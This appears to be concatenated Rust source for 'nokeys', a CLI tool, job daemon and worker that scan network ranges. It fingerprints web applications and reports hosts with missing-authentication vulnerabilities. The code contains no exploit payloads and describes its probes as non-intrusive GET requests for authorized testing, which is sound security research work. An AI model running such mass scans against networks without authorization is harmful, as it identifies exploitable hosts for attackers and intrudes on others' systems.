                    .and_then(|s| s.parse().ok())
                    .unwrap_or_else(|| usage());
                args.targets.push(cidr);
            }
            "--ports" => {
                i += 1;
                // Every element must parse: "80,abc,443" is an error,
                // not a two-port list (filter_map used to silently drop
                // the bad entries).
                args.ports = argv
                    .get(i)
                    .and_then(|s| {
                        s.split(',')
                            .map(|p| p.parse().ok())
                            .collect::<Option<Vec<u16>>>()
                    })
                    .unwrap_or_else(|| usage());
                if args.ports.is_empty() {
                    usage();
                }
            }
            "--rate" => {
                i += 1;
                args.rate = Some(
                    argv.get(i)
                        .and_then(|s| s.parse().ok())
                        .filter(|r| *r > 0.0)
                        .unwrap_or_else(|| usage()),
                );
            }
            "--parallelism" => {
                i += 1;
                args.parallelism = argv
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .filter(|p| *p > 0)
                    .unwrap_or_else(|| usage());
            }
            "--shards" => {
                i += 1;
                args.shards = argv
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .filter(|n| *n > 0)
                    .unwrap_or_else(|| usage());
            }
            "--shard" => {
                i += 1;
                args.shard = argv.get(i).and_then(|s| {
                    let (k, n) = s.split_once('/')?;
                    Some((k.parse().ok()?, n.parse().ok()?))
                });
                if args.shard.is_none() {
                    usage();
                }
            }
            "--retries" => {
                i += 1;
                args.retries = argv
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .unwrap_or_else(|| usage());
            }
            "--fault-rate" => {
                i += 1;
                args.fault_rate = argv
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .filter(|r| (0.0..=1.0).contains(r))
                    .unwrap_or_else(|| usage());
            }
            "--include-reserved" => args.include_reserved = true,
            "--resume" => args.resume = true,
            "--checkpoint" => {
                i += 1;
                args.checkpoint = Some(argv.get(i).map(Into::into).unwrap_or_else(|| usage()));
            }
            "--checkpoint-every" => {
                i += 1;
                args.checkpoint_every = argv
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .filter(|n| *n > 0)
                    .unwrap_or_else(|| usage());
            }
            "--json" => {
                i += 1;
                args.json = Some(argv.get(i).cloned().unwrap_or_else(|| usage()));
            }
            "--metrics-out" => {
                i += 1;
                args.metrics_out = Some(argv.get(i).cloned().unwrap_or_else(|| usage()));
            }
            _ => usage(),
        }
        i += 1;
    }
    if args.targets.is_empty() {
        usage();
    }
    if args.resume && args.checkpoint.is_none() {
        eprintln!("error: --resume requires --checkpoint FILE");
        usage();
    }
    args
}

#[tokio::main]
async fn main() {
    let args = parse_args();
    let addresses: u64 = args.targets.iter().map(|t| t.size()).sum();
    eprintln!(
        "scanning {} addresses on {} ports (non-intrusive GET requests only)",
        addresses,
        args.ports.len()
    );

    let mut portscan = PortScanConfig::new(args.targets.clone());
    portscan.ports = args.ports.clone();
    portscan.exclude_reserved = !args.include_reserved;
    portscan.max_probes_per_sec = args.rate;

    // Stage I concurrently over real sockets, then stages II/III. The
    // fault-injection wrapper is a passthrough at rate 0 (the default);
    // clones share one fault schedule, so the sweep and the pipeline
    // draw from the same per-endpoint attempt ordinals.
    let fault_plan = FaultPlan::new(args.fault_rate, 0x6e6f_6b65_7973);
    if args.fault_rate > 0.0 {
        eprintln!(
            "injecting synthetic transport faults at rate {}",
            args.fault_rate
        );
    }
    let transport = Arc::new(FaultyTransport::new(TcpTransport::default(), fault_plan));
    if args.checkpoint.is_none() {
        let scanner = PortScanner::new(portscan.clone());
        let sweep = match args.shard {
            Some((k, n)) => {
                eprintln!("scanning shard {k} of {n}");
                scanner.scan_shard(transport.as_ref(), k, n).await
            }
            None => {
                scanner
                    .scan_concurrent(Arc::clone(&transport), args.parallelism)
                    .await
            }
        };
        eprintln!(
            "stage I: {} probes, {} open endpoints",
            sweep.probes_sent,
            sweep.open.len()
        );
    } else {
        // The checkpointed pipeline streams stage I itself; a standalone
        // pre-sweep would probe every target a second time.
        eprintln!(
            "checkpointing to {} every {} batches",
            args.checkpoint.as_ref().expect("checked above").display(),
            args.checkpoint_every
        );
    }

    let telemetry = Telemetry::new();
    let tarpit_port_threshold = portscan.ports.len().max(2);
    // Over real sockets one backoff unit is a millisecond, so exhausted
    // budgets actually pace the retries instead of hammering the target.
    let mut retry = RetryPolicy::with_attempts(args.retries);
    retry.real_unit = Duration::from_millis(1);
    let mut builder = PipelineConfig::builder(args.targets)
        .portscan(portscan)
        .tarpit_port_threshold(tarpit_port_threshold)
        // --parallelism bounds both the stage-I sweep above and the
        // in-flight stage-II probes / stage-III verifications below.
        .parallelism(args.parallelism)
        // Shard workers share one pacer, so --rate bounds the whole
        // scan no matter how many shards draw from it.
        .shards(args.shards)
        .retry_policy(retry)
        .telemetry(telemetry.clone());
    if let Some(path) = &args.checkpoint {
        builder = builder
            .checkpoint_path(path.clone())
            .checkpoint_every(args.checkpoint_every);
    }
    let pipeline = Pipeline::new(builder.build());
    let client = Client::new(transport.as_ref().clone());
    let resume_from = args
        .checkpoint
        .as_ref()
        .filter(|p| args.resume && p.exists());
    let result = match resume_from {
        Some(path) => {
            eprintln!("resuming from checkpoint {}", path.display());
            pipeline.resume(&client, path).await
        }
        None => pipeline.run(&client).await,
    };
    let report = match result {
        Ok(report) => report,
        Err(e) => {
            eprintln!("error: {e}");
            std::process::exit(1);
        }
    };

    for f in &report.findings {
        println!(
            "{}\t{}\t{}\t{}",
            f.endpoint,
            f.app.name(),
            if f.vulnerable {
                "VULNERABLE"
            } else {
                "identified"
            },
            f.version.map(|v| v.number()).unwrap_or_else(|| "-".into()),
        );
    }
    eprintln!(
        "done: {} AWE hosts identified, {} with a missing-authentication vulnerability",
        report.total_hosts(),
        report.total_mavs()
    );

    if let Some(path) = args.json {
        std::fs::write(
            &path,
            serde_json::to_vec_pretty(&report).expect("serializes"),
        )
        .unwrap_or_else(|e| {
            eprintln!("error writing {path}: {e}");
            std::process::exit(1);
        });
        eprintln!("report written to {path}");
    }

    if let Some(path) = args.metrics_out {
        let snapshot = telemetry.snapshot();
        eprint!("{}", snapshot.render_text());
        std::fs::write(&path, snapshot.to_json_pretty()).unwrap_or_else(|e| {
            eprintln!("error writing {path}: {e}");
            std::process::exit(1);
        });
        eprintln!("metrics written to {path}");
    }
}
