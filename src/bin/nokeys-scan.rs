//! `nokeys-scan` — the scanning pipeline as a standalone tool over real
//! TCP, for scanning infrastructure you are authorized to test.
//!
//! ```text
//! nokeys-scan --target 192.0.2.0/28 [--ports 80,443,8080] [--rate 200]
//!             [--parallelism 16] [--shards N] [--workers N]
//!             [--worker-bin PATH] [--json out.json]
//!             [--metrics-out m.json] [--include-reserved] [--retries N]
//!             [--fault-rate P] [--checkpoint FILE] [--resume]
//!             [--checkpoint-every N] [--fleet-shard K/N] [--pool]
//! ```
//!
//! `--pool` enables keep-alive connection reuse: stage II/III probes of
//! the same host ride one TCP connection through
//! [`PooledTransport`](nokeys::http::PooledTransport) instead of paying
//! a handshake per request. The report is byte-identical either way —
//! pooling, like parallelism, is excluded from the checkpoint
//! fingerprint — and the pool's hit/miss/stale-retry counters are
//! summarized on stderr after the scan. Not available with `--workers`
//! (each worker process dials its own connections).
//!
//! The CLI is a thin client of the scan-as-a-service layer: the flags
//! build a serializable [`JobSpec`] which a local in-process
//! [`JobEngine`] executes — the same spec, byte for byte, could be
//! piped to a `nokeys-scand` daemon instead. Reports and metrics are
//! byte-identical to the pre-engine releases for every existing flag.
//!
//! `--shards N` splits the batch sequence across N worker tasks with
//! work-stealing (default: the number of CPUs); the report is
//! byte-identical at any N, and `--rate` stays a whole-scan bound
//! shared by all shards. Distinct from `--fleet-shard K/N`, which
//! restricts a *fleet member* to its K-th slice of the sweep (the flag
//! was previously spelled `--shard`, which remains a hidden alias).
//!
//! `--workers N` promotes the shard workers to external `nokeys-worker`
//! *processes* leased contiguous batch ranges over an NDJSON pipe, with
//! work-stealing, heartbeat-based loss detection and per-worker
//! checkpoint files (requires `--checkpoint` for crash recovery; the
//! report stays byte-identical to `--shards` at any worker count).
//! `--worker-bin PATH` overrides the default worker binary, which is
//! the `nokeys-worker` installed next to this executable. One caveat:
//! `--rate` becomes a per-worker bound, because the shared token bucket
//! cannot span processes.
//!
//! `--checkpoint FILE` persists a resumable checkpoint every
//! `--checkpoint-every N` batches (default 8); `--resume` continues an
//! interrupted scan from that file instead of starting over.
//!
//! Like the paper's scanner, the tool is strictly non-intrusive: it only
//! issues non-state-changing `GET` requests and infers the presence of a
//! MAV from the presence of the vulnerable functionality.
//!
//! `--retries N` gives every probe/connect N total attempts with
//! deterministic exponential backoff (1 disables retrying). For
//! rehearsing that path against lab targets, `--fault-rate P` injects
//! synthetic SYN loss and connect timeouts at per-attempt probability
//! `P` before any packet reaches the network.

use nokeys::http::transport::{TcpTransport, Transport};
use nokeys::http::{Client, PooledTransport};
use nokeys::netsim::{FaultPlan, FaultyTransport};
use nokeys::scanner::prelude::{
    CheckpointPolicy, EngineConfig, JobEngine, JobOutcome, JobSpec, PortScanConfig, ScanSpec,
    Telemetry, WorkerLaunch,
};
use nokeys::scanner::telemetry::PoolMetrics;
use nokeys::scanner::PortScanner;
use nokeys::worker::{default_worker_bin, TransportSpec};
use std::sync::Arc;

struct Args {
    targets: Vec<nokeys::scanner::portscan::Cidr>,
    ports: Vec<u16>,
    parallelism: usize,
    shards: usize,
    workers: usize,
    worker_bin: Option<std::path::PathBuf>,
    rate: Option<f64>,
    fleet_shard: Option<(usize, usize)>,
    include_reserved: bool,
    retries: u32,
    fault_rate: f64,
    json: Option<String>,
    metrics_out: Option<String>,
    checkpoint: Option<std::path::PathBuf>,
    checkpoint_every: u64,
    resume: bool,
    pool: bool,
}

fn usage() -> ! {
    eprintln!(
        "usage: nokeys-scan --target CIDR [--target CIDR ...]\n\
         \x20                [--ports p1,p2,...] [--parallelism N] [--rate PROBES_PER_SEC]\n\
         \x20                [--shards N] [--workers N] [--worker-bin PATH]\n\
         \x20                [--fleet-shard K/N] [--retries N] [--fault-rate P]\n\
         \x20                [--include-reserved] [--json FILE] [--metrics-out FILE]\n\
         \x20                [--checkpoint FILE] [--resume] [--checkpoint-every N]\n\
         \x20                [--pool]\n\
         \n\
         --pool           reuse keep-alive connections across probes of\n\
         \x20                the same host (byte-identical report; not\n\
         \x20                available with --workers)\n\
         --shards N       split this scan across N work-stealing workers\n\
         \x20                (byte-identical report at any N)\n\
         --workers N      lease batch ranges to N external nokeys-worker\n\
         \x20                processes over NDJSON (byte-identical to --shards)\n\
         --fleet-shard K/N  restrict this fleet member to the K-th of N\n\
         \x20                slices of the stage-I sweep"
    );
    std::process::exit(2);
}

fn parse_args() -> Args {
    let mut args = Args {
        targets: Vec::new(),
        ports: nokeys::apps::SCAN_PORTS.to_vec(),
        parallelism: 16,
        shards: std::thread::available_parallelism()
            .map(|n| n.get())
            .unwrap_or(1),
        workers: 0,
        worker_bin: None,
        rate: None,
        fleet_shard: None,
        include_reserved: false,
        retries: 3,
        fault_rate: 0.0,
        json: None,
        metrics_out: None,
        checkpoint: None,
        checkpoint_every: 8,
        resume: false,
        pool: false,
    };
    let argv: Vec<String> = std::env::args().skip(1).collect();
    let mut i = 0;
    while i < argv.len() {
        match argv[i].as_str() {
            "--target" => {
                i += 1;
                let cidr = argv
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .unwrap_or_else(|| usage());
                args.targets.push(cidr);
            }
            "--ports" => {
                i += 1;
                // Every element must parse: "80,abc,443" is an error,
                // not a two-port list (filter_map used to silently drop
                // the bad entries).
                args.ports = argv
                    .get(i)
                    .and_then(|s| {
                        s.split(',')
                            .map(|p| p.parse().ok())
                            .collect::<Option<Vec<u16>>>()
                    })
                    .unwrap_or_else(|| usage());
                if args.ports.is_empty() {
                    usage();
                }
            }
            "--rate" => {
                i += 1;
                args.rate = Some(
                    argv.get(i)
                        .and_then(|s| s.parse().ok())
                        .filter(|r| *r > 0.0)
                        .unwrap_or_else(|| usage()),
                );
            }
            "--parallelism" => {
                i += 1;
                args.parallelism = argv
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .filter(|p| *p > 0)
                    .unwrap_or_else(|| usage());
            }
            "--shards" => {
                i += 1;
                args.shards = argv
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .filter(|n| *n > 0)
                    .unwrap_or_else(|| usage());
            }
            "--workers" => {
                i += 1;
                args.workers = argv
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .filter(|n| *n > 0)
                    .unwrap_or_else(|| usage());
            }
            "--worker-bin" => {
                i += 1;
                args.worker_bin = Some(argv.get(i).map(Into::into).unwrap_or_else(|| usage()));
            }
            // "--shard" is the pre-rename spelling, kept as a hidden
            // alias with the same strict K/N validation.
            "--fleet-shard" | "--shard" => {
                i += 1;
                args.fleet_shard = argv.get(i).and_then(|s| {
                    let (k, n) = s.split_once('/')?;
                    Some((k.parse().ok()?, n.parse().ok()?))
                });
                if args.fleet_shard.is_none() {
                    usage();
                }
            }
            "--retries" => {
                i += 1;
                args.retries = argv
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .unwrap_or_else(|| usage());
            }
            "--fault-rate" => {
                i += 1;
                args.fault_rate = argv
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .filter(|r| (0.0..=1.0).contains(r))
                    .unwrap_or_else(|| usage());
            }
            "--include-reserved" => args.include_reserved = true,
            "--pool" => args.pool = true,
            "--resume" => args.resume = true,
            "--checkpoint" => {
                i += 1;
                args.checkpoint = Some(argv.get(i).map(Into::into).unwrap_or_else(|| usage()));
            }
            "--checkpoint-every" => {
                i += 1;
                args.checkpoint_every = argv
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .filter(|n| *n > 0)
                    .unwrap_or_else(|| usage());
            }
            "--json" => {
                i += 1;
                args.json = Some(argv.get(i).cloned().unwrap_or_else(|| usage()));
            }
            "--metrics-out" => {
                i += 1;
                args.metrics_out = Some(argv.get(i).cloned().unwrap_or_else(|| usage()));
            }
            _ => usage(),
        }
        i += 1;
    }
    if args.targets.is_empty() {
        usage();
    }
    if args.resume && args.checkpoint.is_none() {
        eprintln!("error: --resume requires --checkpoint FILE");
        usage();
    }
    if args.pool && args.workers > 0 {
        eprintln!("error: --pool cannot span --workers processes");
        usage();
    }
    args
}

/// The serializable job this invocation describes — what would go over
/// the wire to `nokeys-scand`.
fn job_spec(args: &Args) -> JobSpec {
    let mut scan = ScanSpec::new(args.targets.clone());
    scan.ports = Some(args.ports.clone());
    scan.exclude_reserved = Some(!args.include_reserved);
    scan.max_probes_per_sec = args.rate;
    scan.tarpit_port_threshold = Some(args.ports.len().max(2));
    scan.parallelism = Some(args.parallelism);
    scan.shards = Some(args.shards);
    if args.workers > 0 {
        scan.workers = Some(args.workers);
    }
    scan.retries = Some(args.retries);
    // Over real sockets one backoff unit is a millisecond, so exhausted
    // budgets actually pace the retries instead of hammering the target.
    scan.retry_real_unit_ms = Some(1);

    let mut spec = JobSpec::scan("nokeys-scan", scan);
    spec.checkpoint = match &args.checkpoint {
        Some(path) => CheckpointPolicy::Explicit {
            path: path.clone(),
            every: args.checkpoint_every,
            resume: args.resume,
        },
        None => CheckpointPolicy::Disabled,
    };
    spec
}

/// Submit the job and wait, generic over the client's transport — the
/// only thing `--pool` changes.
async fn run_job<T: Transport + Clone + 'static>(
    engine: JobEngine<T>,
    spec: JobSpec,
) -> JobOutcome {
    let handle = engine.submit(spec);
    match handle.wait().await {
        Ok(outcome) => outcome,
        Err(e) => {
            eprintln!("error: {e}");
            std::process::exit(1);
        }
    }
}

#[tokio::main]
async fn main() {
    let args = parse_args();
    let addresses: u64 = args.targets.iter().map(|t| t.size()).sum();
    eprintln!(
        "scanning {} addresses on {} ports (non-intrusive GET requests only)",
        addresses,
        args.ports.len()
    );

    let mut portscan = PortScanConfig::new(args.targets.clone());
    portscan.ports = args.ports.clone();
    portscan.exclude_reserved = !args.include_reserved;
    portscan.max_probes_per_sec = args.rate;

    // Stage I concurrently over real sockets, then stages II/III. The
    // fault-injection wrapper is a passthrough at rate 0 (the default);
    // clones share one fault schedule, so the sweep and the pipeline
    // draw from the same per-endpoint attempt ordinals.
    let fault_plan = FaultPlan::new(args.fault_rate, 0x6e6f_6b65_7973);
    if args.fault_rate > 0.0 {
        eprintln!(
            "injecting synthetic transport faults at rate {}",
            args.fault_rate
        );
    }
    let transport = Arc::new(FaultyTransport::new(TcpTransport::default(), fault_plan));
    if args.workers > 0 {
        // The process tier streams stage I inside the workers; a local
        // pre-sweep would probe every target a second time.
        eprintln!(
            "leasing batches to {} external worker process(es)",
            args.workers
        );
    } else if args.checkpoint.is_none() {
        let scanner = PortScanner::new(portscan.clone());
        let sweep = match args.fleet_shard {
            Some((k, n)) => {
                eprintln!("scanning fleet shard {k} of {n}");
                scanner.scan_shard(transport.as_ref(), k, n).await
            }
            None => {
                scanner
                    .scan_concurrent(Arc::clone(&transport), args.parallelism)
                    .await
            }
        };
        eprintln!(
            "stage I: {} probes, {} open endpoints",
            sweep.probes_sent,
            sweep.open.len()
        );
    } else {
        // The checkpointed pipeline streams stage I itself; a standalone
        // pre-sweep would probe every target a second time.
        eprintln!(
            "checkpointing to {} every {} batches",
            args.checkpoint.as_ref().expect("checked above").display(),
            args.checkpoint_every
        );
    }

    if args.resume {
        if let Some(path) = args.checkpoint.as_ref().filter(|p| p.exists()) {
            eprintln!("resuming from checkpoint {}", path.display());
        }
    }

    // One-job in-process engine: submit the spec and wait. Everything
    // the pipeline used to be handed directly (telemetry registry,
    // checkpoint wiring, retry policy) now travels in the spec. With
    // --workers the engine turns coordinator: the workers rebuild this
    // same transport (TCP + fault plan, no observer) from the launch's
    // transport spec. With --pool the client's transport type changes
    // (a keep-alive pool around the same faulty TCP transport), nothing
    // downstream does.
    let spec = job_spec(&args);
    let pool_telemetry = Telemetry::new();
    let outcome = if args.workers > 0 {
        let worker_transport = TransportSpec::Tcp {
            fault_rate: args.fault_rate,
            fault_seed: 0x6e6f_6b65_7973,
        };
        let bin = args.worker_bin.clone().unwrap_or_else(default_worker_bin);
        let engine = JobEngine::with_config(
            Client::new(transport.as_ref().clone()),
            EngineConfig {
                worker_launch: Some(WorkerLaunch::new(bin, worker_transport.to_value())),
                ..EngineConfig::default()
            },
        );
        run_job(engine, spec).await
    } else if args.pool {
        eprintln!("keep-alive connection pooling enabled");
        let pooled = PooledTransport::new(transport.as_ref().clone())
            .with_observer(PoolMetrics::observer(&pool_telemetry));
        run_job(JobEngine::new(Client::new(pooled)), spec).await
    } else {
        run_job(
            JobEngine::new(Client::new(transport.as_ref().clone())),
            spec,
        )
        .await
    };
    let report = outcome.report().expect("scan jobs produce a report");

    for f in &report.findings {
        println!(
            "{}\t{}\t{}\t{}",
            f.endpoint,
            f.app.name(),
            if f.vulnerable {
                "VULNERABLE"
            } else {
                "identified"
            },
            f.version.map(|v| v.number()).unwrap_or_else(|| "-".into()),
        );
    }
    eprintln!(
        "done: {} AWE hosts identified, {} with a missing-authentication vulnerability",
        report.total_hosts(),
        report.total_mavs()
    );
    if args.pool {
        let snap = pool_telemetry.snapshot();
        eprintln!(
            "pool: {} hits, {} misses, {} stale retries, {} evicted",
            snap.counter("transport.pool.hit"),
            snap.counter("transport.pool.miss"),
            snap.counter("transport.pool.stale_retry"),
            snap.counter("transport.pool.evicted"),
        );
    }

    if let Some(path) = args.json {
        std::fs::write(
            &path,
            serde_json::to_vec_pretty(&report).expect("serializes"),
        )
        .unwrap_or_else(|e| {
            eprintln!("error writing {path}: {e}");
            std::process::exit(1);
        });
        eprintln!("report written to {path}");
    }

    if let Some(path) = args.metrics_out {
        let snapshot = outcome.telemetry();
        eprint!("{}", snapshot.render_text());
        std::fs::write(&path, snapshot.to_json_pretty()).unwrap_or_else(|e| {
            eprintln!("error writing {path}: {e}");
            std::process::exit(1);
        });
        eprintln!("metrics written to {path}");
    }
}
