//! `nokeys-scand` — the scan engine as a long-running service.
//!
//! ```text
//! nokeys-scand [--max-active N] [--rate PROBES_PER_SEC]
//!              [--spool-dir DIR] [--fault-rate P] [--worker-bin PATH]
//! ```
//!
//! Reads one NDJSON [`Command`] per stdin line and writes NDJSON
//! [`Reply`] lines to stdout — scriptable from a shell:
//!
//! ```text
//! $ echo '{"op":"metrics"}' | nokeys-scand
//! {"reply":"metrics","snapshot":{...}}
//! ```
//!
//! A session drives a single in-process [`JobEngine`] over real TCP.
//! `tenant` registers per-tenant probe quotas, `submit` accepts the
//! same [`JobSpec`](nokeys::scanner::prelude::JobSpec) that
//! `nokeys-scan` builds from its flags, and `subscribe` streams
//! per-batch [`Reply::Event`] lines interleaved with other replies
//! until the job terminates. `--rate` is the global token bucket every
//! tenant draws from; `--max-active` bounds concurrently running jobs
//! (queued jobs dispatch by priority). Spooled checkpoints land under
//! `--spool-dir`, so a killed daemon can be restarted and jobs
//! re-submitted with an explicit resume policy pointing at the spool.
//!
//! `--fault-rate P` injects deterministic synthetic transport faults,
//! for rehearsing retry/pause behaviour against lab targets.
//!
//! `--worker-bin PATH` enables the process tier: scan jobs submitted
//! with `workers > 0` lease batch ranges to external `nokeys-worker`
//! processes launched from `PATH` (pass `nokeys-worker` to use the one
//! on `$PATH`). Workers inherit the daemon's transport settings — real
//! TCP plus this `--fault-rate`. Without the flag such jobs fail with
//! a structured error instead of silently running in-process.
//!
//! Subscribers that fall behind the per-job event ring no longer lose
//! events silently: the dropped span is reported as one
//! `{"reply":"gap",...}` line carrying a full state snapshot (status,
//! report-so-far, telemetry), so a client can resynchronize instead of
//! miscounting batches.

use nokeys::http::transport::TcpTransport;
use nokeys::http::{Client, Transport};
use nokeys::netsim::{FaultPlan, FaultyTransport};
use nokeys::scanner::prelude::{
    Command, EngineConfig, JobEngine, JobEvent, JobHandle, JobId, Reply, WorkerLaunch,
};
use nokeys::worker::TransportSpec;
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use tokio::sync::mpsc;
use tokio::task::JoinHandle;

struct Args {
    max_active: Option<usize>,
    rate: Option<f64>,
    spool_dir: Option<std::path::PathBuf>,
    fault_rate: f64,
    worker_bin: Option<std::path::PathBuf>,
}

fn usage() -> ! {
    eprintln!(
        "usage: nokeys-scand [--max-active N] [--rate PROBES_PER_SEC]\n\
         \x20                 [--spool-dir DIR] [--fault-rate P] [--worker-bin PATH]\n\
         \n\
         Reads NDJSON commands on stdin, writes NDJSON replies on stdout.\n\
         Commands: tenant, submit, pause, resume, cancel, status, jobs,\n\
         subscribe, metrics, shutdown."
    );
    std::process::exit(2);
}

fn parse_args() -> Args {
    let mut args = Args {
        max_active: None,
        rate: None,
        spool_dir: None,
        fault_rate: 0.0,
        worker_bin: None,
    };
    let argv: Vec<String> = std::env::args().skip(1).collect();
    let mut i = 0;
    while i < argv.len() {
        match argv[i].as_str() {
            "--max-active" => {
                i += 1;
                args.max_active = Some(
                    argv.get(i)
                        .and_then(|s| s.parse().ok())
                        .filter(|n| *n > 0)
                        .unwrap_or_else(|| usage()),
                );
            }
            "--rate" => {
                i += 1;
                args.rate = Some(
                    argv.get(i)
                        .and_then(|s| s.parse().ok())
                        .filter(|r| *r > 0.0)
                        .unwrap_or_else(|| usage()),
                );
            }
            "--spool-dir" => {
                i += 1;
                args.spool_dir = Some(argv.get(i).map(Into::into).unwrap_or_else(|| usage()));
            }
            "--worker-bin" => {
                i += 1;
                args.worker_bin = Some(argv.get(i).map(Into::into).unwrap_or_else(|| usage()));
            }
            "--fault-rate" => {
                i += 1;
                args.fault_rate = argv
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .filter(|r| (0.0..=1.0).contains(r))
                    .unwrap_or_else(|| usage());
            }
            _ => usage(),
        }
        i += 1;
    }
    args
}

#[allow(clippy::field_reassign_with_default)] // EngineConfig is #[non_exhaustive]
fn engine_config(args: &Args) -> EngineConfig {
    let mut config = EngineConfig::default();
    if let Some(n) = args.max_active {
        config.max_active = n;
    }
    config.max_probes_per_sec = args.rate;
    if let Some(dir) = &args.spool_dir {
        config.spool_dir = dir.clone();
    }
    if let Some(bin) = &args.worker_bin {
        // Workers rebuild the daemon's transport: TCP behind the same
        // fault plan (and, like the daemon, no fault observer).
        let transport = TransportSpec::Tcp {
            fault_rate: args.fault_rate,
            fault_seed: 0x6e6f_6b65_7973,
        };
        config.worker_launch = Some(WorkerLaunch::new(bin.clone(), transport.to_value()));
    }
    config
}

/// Forward a job's event stream to the writer as [`Reply::Event`]
/// lines, stopping at the first terminal event.
///
/// A subscriber that falls behind the ring buffer drops its oldest
/// events; silently resuming from the oldest retained one would let a
/// client keep a wrong batch count forever. Instead the dropped span
/// becomes one [`Reply::Gap`] line with a resync snapshot of the job's
/// current state, then streaming continues.
async fn forward_events<T: Transport + Clone + 'static>(
    job: JobId,
    handle: JobHandle<T>,
    mut events: tokio::sync::broadcast::Receiver<JobEvent>,
    out: mpsc::UnboundedSender<String>,
) {
    loop {
        match events.recv().await {
            Ok(event) => {
                let terminal = matches!(
                    event,
                    JobEvent::Completed { .. } | JobEvent::Cancelled { .. } | JobEvent::Failed { .. }
                );
                let line = Reply::Event {
                    event: Box::new(event),
                }
                .to_line();
                if out.send(line).is_err() {
                    return;
                }
                if terminal {
                    return;
                }
            }
            Err(tokio::sync::broadcast::error::RecvError::Lagged(dropped)) => {
                let line = Reply::Gap {
                    job,
                    dropped,
                    resync: handle.resync().ok().map(Box::new),
                }
                .to_line();
                if out.send(line).is_err() {
                    return;
                }
            }
            Err(tokio::sync::broadcast::error::RecvError::Closed) => return,
        }
    }
}

async fn serve<T: Transport + Clone + 'static>(engine: JobEngine<T>) {
    // All replies funnel through one writer task so subscription events
    // never interleave mid-line with command replies.
    let (out, mut out_rx) = mpsc::unbounded_channel::<String>();
    // Spawned helpers (forwarders, slow pause/cancel acks) hold writer
    // clones; they are aborted on shutdown so the writer can drain.
    let mut helpers: Vec<JoinHandle<()>> = Vec::new();
    let writer = tokio::spawn(async move {
        let mut stdout = tokio::io::stdout();
        while let Some(line) = out_rx.recv().await {
            if stdout.write_all(line.as_bytes()).await.is_err() {
                return;
            }
            if stdout.write_all(b"\n").await.is_err() {
                return;
            }
            let _ = stdout.flush().await;
        }
        let _ = stdout.flush().await;
    });

    let mut lines = BufReader::new(tokio::io::stdin()).lines();
    'commands: while let Ok(Some(line)) = lines.next_line().await {
        if line.trim().is_empty() {
            continue;
        }
        let command = match Command::parse(&line) {
            Ok(command) => command,
            Err(e) => {
                let _ = out.send(Reply::error(e).to_line());
                continue;
            }
        };
        let reply = match command {
            Command::Tenant { name, config } => {
                engine.register_tenant(name, config);
                Reply::Ok
            }
            Command::Submit { spec } => Reply::Submitted {
                job: engine.submit(*spec).id(),
            },
            Command::Pause { job } => match engine.handle(job) {
                // Pausing waits for the next batch boundary; run it off
                // the command loop so other clients stay served.
                Ok(handle) => {
                    let out = out.clone();
                    helpers.push(tokio::spawn(async move {
                        let reply = match handle.pause().await {
                            Ok(()) => Reply::Ok,
                            Err(e) => Reply::error(e),
                        };
                        let _ = out.send(reply.to_line());
                    }));
                    continue;
                }
                Err(e) => Reply::error(e),
            },
            Command::Resume { job } => match engine.handle(job).and_then(|h| h.resume()) {
                Ok(()) => Reply::Ok,
                Err(e) => Reply::error(e),
            },
            Command::Cancel { job } => match engine.handle(job) {
                Ok(handle) => {
                    let out = out.clone();
                    helpers.push(tokio::spawn(async move {
                        let reply = match handle.cancel().await {
                            Ok(()) => Reply::Ok,
                            Err(e) => Reply::error(e),
                        };
                        let _ = out.send(reply.to_line());
                    }));
                    continue;
                }
                Err(e) => Reply::error(e),
            },
            Command::Status { job } => match engine.status(job) {
                Ok(status) => Reply::Status { status },
                Err(e) => Reply::error(e),
            },
            Command::Jobs => Reply::Jobs {
                jobs: engine.jobs(),
            },
            Command::Subscribe { job } => match engine.handle(job) {
                Ok(handle) => match (handle.status(), handle.subscribe()) {
                    (Ok(status), Ok(events)) => {
                        if status.state.is_terminal() {
                            // Nothing left to stream; ack and move on
                            // rather than park a forwarder forever.
                            Reply::Ok
                        } else {
                            helpers
                                .push(tokio::spawn(forward_events(job, handle, events, out.clone())));
                            Reply::Ok
                        }
                    }
                    (Err(e), _) | (_, Err(e)) => Reply::error(e),
                },
                Err(e) => Reply::error(e),
            },
            Command::Metrics => Reply::Metrics {
                snapshot: engine.metrics(),
            },
            Command::Shutdown => {
                let _ = out.send(Reply::Ok.to_line());
                break 'commands;
            }
            // Command is #[non_exhaustive]; future ops degrade to a
            // structured error instead of a protocol break.
            _ => Reply::error("unsupported command"),
        };
        let _ = out.send(reply.to_line());
    }

    // Abort the helpers (they hold writer clones and would otherwise
    // keep the channel open forever), then drop our sender so the
    // writer drains queued replies and exits. Running jobs are
    // abandoned, matching the documented shutdown contract.
    for helper in &helpers {
        helper.abort();
    }
    for helper in helpers {
        let _ = helper.await;
    }
    drop(out);
    let _ = writer.await;
}

#[tokio::main]
async fn main() {
    let args = parse_args();
    if args.fault_rate > 0.0 {
        eprintln!(
            "injecting synthetic transport faults at rate {}",
            args.fault_rate
        );
    }
    let fault_plan = FaultPlan::new(args.fault_rate, 0x6e6f_6b65_7973);
    let transport = FaultyTransport::new(TcpTransport::default(), fault_plan);
    let engine = JobEngine::with_config(Client::new(transport), engine_config(&args));
    serve(engine).await;
}
