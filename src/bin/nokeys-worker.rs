//! `nokeys-worker` — external scan worker for the process tier.
//!
//! Not meant to be launched by hand: a coordinator (`nokeys-scand`, or
//! any [`JobEngine`](nokeys::scanner::JobEngine) with a configured
//! [`WorkerLaunch`](nokeys::scanner::WorkerLaunch)) spawns this binary,
//! writes one [`WorkerSpec`](nokeys::scanner::prelude::WorkerSpec) line
//! to its stdin followed by lease/revoke/shutdown commands, and reads
//! segment/heartbeat/released replies from its stdout. All human-facing
//! output goes to stderr.
//!
//! ```text
//! nokeys-worker [--crash-after N --crash-token FILE]
//! ```
//!
